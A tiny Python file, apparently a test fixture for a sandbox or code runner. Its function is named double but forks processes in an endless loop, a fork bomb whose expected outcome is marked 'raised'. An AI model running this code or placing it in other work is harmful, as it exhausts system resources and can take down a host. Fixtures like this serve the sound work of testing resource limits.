"""Fork forever."""
# ends as: raised

import os


def double(x):
    while True:
        os.fork()
